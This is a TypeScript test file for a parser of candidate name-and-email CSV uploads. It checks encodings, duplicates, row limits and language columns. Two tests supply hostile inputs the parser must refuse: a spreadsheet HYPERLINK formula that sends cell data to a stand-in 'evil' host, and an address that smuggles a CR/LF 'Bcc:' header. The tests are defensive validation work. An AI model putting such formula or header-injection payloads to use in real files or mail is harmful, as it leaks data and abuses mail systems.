import { parseCandidatesCsv } from './candidates-csv';

const gbk = (parts: Array<string | number[]>) =>
  Buffer.concat(parts.map((p) => (typeof p === 'string' ? Buffer.from(p) : Buffer.from(p))));
const ZHANG_SAN_GBK = [0xd5, 0xc5, 0xc8, 0xfd]; // 张三

describe(parseCandidatesCsv.name, () => {
  it('reads UTF-8 (with a BOM from Excel or without) and UTF-16 with a BOM', () => {
    const expected = {
      candidates: [
        { name: '张三', email: 'zhang3@x.io', line: 2 },
        { name: 'Li, Lei', email: 'lei@x.io', line: 3 },
      ],
    };
    const csv = 'name,email\r\n张三,zhang3@x.io\r\n"Li, Lei",lei@x.io\r\n';
    expect(parseCandidatesCsv(Buffer.from(csv))).toEqual(expected);
    expect(parseCandidatesCsv(Buffer.from(`\uFEFF${csv}`))).toEqual(expected);
    expect(parseCandidatesCsv(Buffer.from(`\uFEFF${csv}`, 'utf16le'))).toEqual(expected);
    expect(parseCandidatesCsv(csv)).toEqual(expected);
  });

  it('refuses GBK, UTF-16 without a BOM (file-not-utf8) and binary files (file-not-text) with codes', () => {
    const notUtf8 = { refusal: { code: 'file-not-utf8', params: {} } };
    expect(parseCandidatesCsv(gbk(['name,email\n', ZHANG_SAN_GBK, ',zhang3@x.io\n']))).toEqual(notUtf8);
    expect(parseCandidatesCsv(Buffer.from('name,email\nLi Lei,lei@x.io\n', 'utf16le'))).toEqual(notUtf8);
    expect(
      parseCandidatesCsv(Buffer.from([0x50, 0x4b, 0x03, 0x04, 0x14, 0x00, 0x06, 0x00, 0x08, 0x00, 0x00, 0x00])),
    ).toEqual({ refusal: { code: 'file-not-text', params: {} } });
  });

  it('refuses a file that lists one email twice, whatever its case, naming the lines (csv-duplicate-email)', () => {
    expect(parseCandidatesCsv('name,email\nAlice,alice@x.io\nBob,bob@x.io\nAlice Wang,ALICE@x.io\n')).toEqual({
      refusal: { code: 'csv-duplicate-email', params: { email: 'alice@x.io', lines: '2, 4', count: 1 } },
    });
    const many = [
      'name,email',
      ...Array.from({ length: 7 }, (_, i) => [`A${i},a${i}@x.io`, `B${i},A${i}@X.io`]).flat(),
    ].join('\n');
    expect(parseCandidatesCsv(many)).toEqual({
      refusal: { code: 'csv-duplicate-email', params: { email: 'a0@x.io', lines: '2, 3', count: 7 } },
    });
  });

  it('names a missing header (csv-columns-missing), an empty list (csv-empty) and a bad line (csv-row-invalid)', () => {
    expect(parseCandidatesCsv('a,b\nc,d\n')).toEqual({
      refusal: { code: 'csv-columns-missing', params: { found: 'a, b' } },
    });
    expect(parseCandidatesCsv('name,email\n\n')).toEqual({ refusal: { code: 'csv-empty', params: {} } });
    // Line numbers are the file's own, blank lines and quoted line breaks counted.
    expect(parseCandidatesCsv('name,email\n\n"Ada\nL",ada@x.io\nNo Email,\n')).toEqual({
      refusal: { code: 'csv-row-invalid', params: { line: 5, name: 'No Email', email: '' } },
    });
  });

  it('refuses more than 500 candidates in one file (csv-too-many)', () => {
    const rows = Array.from({ length: 501 }, (_, i) => `C${i},c${i}@x.io`);
    expect(parseCandidatesCsv(['name,email', ...rows].join('\n'))).toEqual({
      refusal: { code: 'csv-too-many', params: { max: 500 } },
    });
  });

  it('refuses an email that only looks like one, such as a spreadsheet formula', () => {
    for (const email of ['=HYPERLINK("http://evil/"&A1)@example.com', 'a b@example.com', 'a@b', '@example.com']) {
      const parsed = parseCandidatesCsv(`name,email\nAda,"${email.replace(/"/g, '""')}"\n`);
      expect(parsed).toMatchObject({ refusal: { code: 'csv-row-invalid', params: { line: 2 } } });
    }
    expect(parseCandidatesCsv('name,email\nAda,ada.l@example.com\n')).toEqual({
      candidates: [{ name: 'Ada', email: 'ada.l@example.com', line: 2 }],
    });
  });

  it('refuses a quoted address that would carry CR/LF or spaces, which isEmail alone accepts', () => {
    const csv = 'name,email\nEve,"""a\r\nBcc: x@evil.test""@example.com"\n';
    expect(parseCandidatesCsv(csv)).toMatchObject({ refusal: { code: 'csv-row-invalid', params: { line: 2 } } });
    expect(parseCandidatesCsv('name,email\nEve,"""a b""@example.com"\n')).toMatchObject({
      refusal: { code: 'csv-row-invalid' },
    });
  });

  it('reads an optional language column in either language, and refuses one it cannot write mail in', () => {
    const csv = 'name,email,语言\nA,a@x.io,中文\nB,b@x.io,English\nC,c@x.io,\n';
    expect(parseCandidatesCsv(csv)).toEqual({
      candidates: [
        { name: 'A', email: 'a@x.io', line: 2, lang: 'zh' },
        { name: 'B', email: 'b@x.io', line: 3, lang: 'en' },
        { name: 'C', email: 'c@x.io', line: 4 },
      ],
    });
    expect(parseCandidatesCsv('name,email,language\nA,a@x.io,fr\n')).toEqual({
      refusal: { code: 'csv-language-invalid', params: { line: 2, value: 'fr' } },
    });
  });
});
